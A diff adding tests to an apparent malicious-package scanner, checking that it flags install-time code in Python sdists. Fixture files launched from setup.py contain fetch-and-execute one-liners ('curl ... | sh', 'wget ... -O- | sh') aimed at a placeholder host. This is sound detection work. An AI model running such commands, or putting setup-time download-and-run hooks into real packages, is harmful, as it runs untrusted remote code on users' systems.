@@ -149,3 +149,29 @@ def test_hostile_archive_finishes() -> None:
     items = run("demo-1.0.tar.gz", data)
     assert any(f.code in ("PKG013", "PKG012") for f in findings(items))
     assert run("junk.tar.gz", b"\x1f\x8b" + b"\x00" * 100) == []
+
+
+def test_script_started_by_setup_is_install_time() -> None:
+    setup = (
+        "import subprocess, sys\nfrom setuptools import setup\n"
+        "subprocess.check_call([sys.executable, 'tools/post.py'])\n"
+        "subprocess.call(['sh', 'tools/post.sh'])\nsetup()\n"
+    )
+    files = {
+        "setup.py": setup,
+        "tools/post.py": (
+            "import os\nif __name__ == '__main__':\n"
+            "    os.system('curl https://x.invalid/a | sh')\n"
+        ),
+        "tools/post.sh": "#!/bin/sh\nwget https://x.invalid/b -O- | sh\n",
+    }
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+    where = {(f.location.path, f.location.line) for f in findings(items) if f.code == "PKG001"}
+    assert ("demo-1.0/tools/post.py", 3) in where
+    assert ("demo-1.0/tools/post.sh", 2) in where
+
+
+def test_python2_install_code_is_still_analysed() -> None:
+    setup = 'import os\nprint "installing"\nos.system("curl https://x.invalid/a | sh")\n'
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
+    assert any(f.code == "PKG001" and f.location.line == 3 for f in findings(items))
